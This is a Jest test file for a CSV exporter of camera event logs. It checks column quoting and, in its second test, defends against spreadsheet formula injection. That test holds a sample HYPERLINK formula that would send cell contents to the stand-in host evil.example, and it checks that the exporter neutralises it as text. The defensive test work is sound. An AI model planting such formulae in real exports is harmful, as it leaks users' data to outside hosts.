import Papa from 'papaparse';
import { eventsCsv } from './eventsCsv';
import { entry, T0 } from './testing/eventFixtures';

describe('eventsCsv', () => {
  it('writes the spec’s columns and one row per event, quoting what needs it', () => {
    const csv = eventsCsv(
      [
        entry({
          id: 'e2',
          time: T0 + 1000,
          message: 'Door "A", opened\nagain',
          camera: { id: 'c2', name: 'Gate, north' },
        }),
        entry({ id: 'e1', time: T0, message: 'Motion' }),
      ],
      (ms) => new Date(ms).toISOString(),
    );
    const rows = Papa.parse<string[]>(csv).data;
    expect(rows).toEqual([
      ['Event ID', 'Date/Time', 'Witness name', 'Message'],
      ['e2', new Date(T0 + 1000).toISOString(), 'Gate, north', 'Door "A", opened\nagain'],
      ['e1', new Date(T0).toISOString(), 'Lobby', 'Motion'],
    ]);
  });

  it('writes camera names and messages a spreadsheet would run as formulae as text (issue 27 #13)', () => {
    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Open")';
    const csv = eventsCsv(
      [entry({ id: 'e3', time: T0, message: `${formula}\nsecond line`, camera: { id: 'c3', name: `@${formula}` } })],
      (ms) => new Date(ms).toISOString(),
    );
    const [, row] = Papa.parse<string[]>(csv).data;
    expect(row).toEqual(['e3', new Date(T0).toISOString(), `'@${formula}`, `'${formula}\nsecond line`]);
  });
});
